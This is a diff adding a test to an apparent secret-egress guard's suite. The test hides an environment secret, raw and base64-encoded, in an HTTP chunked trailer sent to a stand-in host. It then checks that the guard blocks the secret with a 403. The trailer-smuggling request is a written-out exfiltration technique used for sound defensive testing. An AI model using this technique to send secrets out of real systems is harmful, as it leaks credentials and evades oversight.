@@ -150,6 +150,23 @@ describe('in the head of a request', () => {
   });
 });
 
+test.each([
+  ['as it is', envSecret],
+  ['in base64', Buffer.from(envSecret).toString('base64')],
+])('behind the content, %s, it arrives without the guard, and not with it', async (_form, value) => {
+  const sendBehind = async ({ lab }: Place): Promise<string> => {
+    const socket = await tlsTo(await lab.open('plain.example.com', 443), 'plain.example.com', {
+      ca: lab.authority.certificatePem,
+    });
+    const head = 'POST /upload HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n';
+    return (await talk(socket, [`${head}1\r\nx\r\n0\r\nx-note: ${value}\r\n\r\n`])).text;
+  };
+  expect(await sendBehind(unguarded)).toMatch(/^HTTP\/1\.1 200/);
+  expect(JSON.stringify(unguarded.sink.seen.at(-1)?.trailers)).toContain(value);
+  expect(await sendBehind(guarded)).toMatch(/^HTTP\/1\.1 403 [\s\S]*x-casemate-denied: secret-outgoing/);
+  expect(JSON.stringify(guarded.sink.seen)).not.toContain(value);
+});
+
 test('it is an alarm that names the secret and who sent it, and holds neither value', async () => {
   const before = guarded.alarms.count;
   await send(guarded, { body: envSecret });
